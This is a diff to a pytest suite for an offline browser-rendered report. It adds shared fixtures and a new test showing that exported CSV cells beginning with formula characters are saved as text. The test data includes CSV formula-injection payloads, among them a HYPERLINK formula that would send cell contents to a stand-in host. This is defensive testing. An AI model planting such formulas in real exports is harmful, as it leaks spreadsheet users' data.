@@ -1,12 +1,14 @@
 """The report in a real browser, offline: it draws, searches, and reports no error."""
 
-import asyncio
+import csv
+from collections.abc import Callable
 from pathlib import Path
 from typing import Literal
 
 import chromium
 import pytest
 from made_run import RUN, make_run
+from playwright.sync_api import Browser
 
 from harvester.model import Outcome
 from harvester.pages import LANGUAGES, Language, load_texts
@@ -31,7 +33,9 @@ def outcome(number: int) -> Outcome:
     return Outcome("harvested", "movie", number)
 
 
-def write_report(folder: Path, language: Language = "en") -> Path:
+def write_report(
+    folder: Path, language: Language = "en", outcome: Callable[[int], Outcome] = outcome
+) -> Path:
     """Write the page of a run of 1,000 titles."""
 
     async def make() -> str:
@@ -43,19 +47,29 @@ def write_report(folder: Path, language: Language = "en") -> Path:
         )
 
     path = folder / "report.html"
-    path.write_text(asyncio.run(make()), encoding="utf-8")
+    path.write_text(chromium.run(make()), encoding="utf-8")
     return path
+
+
+@pytest.fixture(scope="module")
+def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[Language, Path]:
+    """Write the page of a run of 1,000 titles in each language."""
+    folder = tmp_path_factory.mktemp("report")
+    return {language: write_report(folder / language, language) for language in LANGUAGES}
 
 
 @pytest.mark.parametrize("width", chromium.WIDTHS)
 @pytest.mark.parametrize("scheme", chromium.SCHEMES)
 @pytest.mark.parametrize("language", LANGUAGES)
 def test_the_report_is_drawn_and_complains_of_nothing(
-    tmp_path: Path, width: int, scheme: Literal["light", "dark"], language: Language
+    browser: Browser,
+    pages: dict[Language, Path],
+    width: int,
+    scheme: Literal["light", "dark"],
+    language: Language,
 ) -> None:
     """Every chart has marks, nothing is wider than the screen, and no request leaves the page."""
-    path = write_report(tmp_path, language)
-    with chromium.opened(path, width=width, scheme=scheme) as seen:
+    with chromium.opened(browser, pages[language], width=width, scheme=scheme) as seen:
         page = seen.page
         assert seen.complaints == []
         assert [url for url in seen.requests if not url.startswith(("file:", "data:"))] == []
@@ -72,9 +86,9 @@ def test_the_report_is_drawn_and_complains_of_nothing(
         assert (int(red) + int(green) + int(blue) < 200) is (scheme == "dark")
 
 
-def test_search_filters_the_rows(tmp_path: Path) -> None:
+def test_search_filters_the_rows(browser: Browser, pages: dict[Language, Path]) -> None:
     """By id, by reason, by outcome; a hostile reason is text; the pager shows the rest."""
-    with chromium.opened(write_report(tmp_path)) as seen:
+    with chromium.opened(browser, pages["en"]) as seen:
         page = seen.page
         rows = page.locator("#rows tr")
         assert page.locator("#found").inner_text() == "200 of 200 titles"
@@ -107,9 +121,9 @@ def test_search_filters_the_rows(tmp_path: Path) -> None:
         assert seen.complaints == []
 
 
-def test_what_is_found_is_saved_as_a_csv(tmp_path: Path) -> None:
+def test_what_is_found_is_saved_as_a_csv(browser: Browser, pages: dict[Language, Path]) -> None:
     """The button saves the rows of the search, quoted."""
-    with chromium.opened(write_report(tmp_path)) as seen:
+    with chromium.opened(browser, pages["en"]) as seen:
         seen.page.locator("#outcome").select_option("failed")
         with seen.page.expect_download() as download:
             seen.page.locator("#save").click()
@@ -120,9 +134,29 @@ def test_what_is_found_is_saved_as_a_csv(tmp_path: Path) -> None:
         assert f'tt0000200,movie,failed,"{HOSTILE}"' in lines
 
 
-def test_the_keyboard_reaches_everything_and_the_theme_stays(tmp_path: Path) -> None:
+def test_no_cell_of_the_csv_is_a_formula(browser: Browser, tmp_path: Path) -> None:
+    """What a spreadsheet would calculate is saved as text; everything else as it is."""
+    reasons = [
+        *('=HYPERLINK("http://h/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", " =1", "\uff1d1"),
+        *('a "quoted", reason', "http_500"),
+    ]
+
+    def failing(number: int) -> Outcome:
+        return Outcome("failed", reason=reasons[number % len(reasons)])
+
+    with chromium.opened(browser, write_report(tmp_path, outcome=failing)) as seen:
+        with seen.page.expect_download() as download:
+            seen.page.locator("#save").click()
+        with Path(download.value.path()).open(encoding="utf-8", newline="") as file:
+            saved = {row["reason"] for row in csv.DictReader(file)}
+    assert saved == {f"'{reason}" for reason in reasons[:6]} | set(reasons[6:])
+
+
+def test_the_keyboard_reaches_everything_and_the_theme_stays(
+    browser: Browser, pages: dict[Language, Path]
+) -> None:
     """Tab goes from the skip link through every control; the theme survives a reload."""
-    with chromium.opened(write_report(tmp_path)) as seen:
+    with chromium.opened(browser, pages["en"]) as seen:
         page = seen.page
         reached = seen.reached(60)
         assert reached[0] == "a"
